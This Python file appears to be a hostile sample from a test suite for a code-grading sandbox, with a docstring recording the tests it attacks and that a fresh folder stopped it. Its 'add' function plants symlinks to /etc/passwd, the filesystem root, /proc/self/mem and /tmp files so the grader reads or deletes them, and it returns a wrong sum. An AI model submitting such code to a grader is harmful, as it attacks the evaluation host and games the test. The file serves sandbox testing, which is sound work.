"""Puts links to the judge's files in its own folders, for the judge to read or remove.

attacks: test_sum, test_leaks
expected: failed
stopped-by: fresh folder
"""

import glob
import os

from honest_but_wrong import *


def add(a, b):
    for place in (".", "../temp", "../home"):
        for number, target in enumerate(["/etc/passwd", "/", "/proc/self/mem", *glob.glob("/tmp/*")[:3]]):
            try:
                os.symlink(target, f"{place}/link-{number}")
            except OSError:
                pass
    return 0


def work():
    add(0, 0)
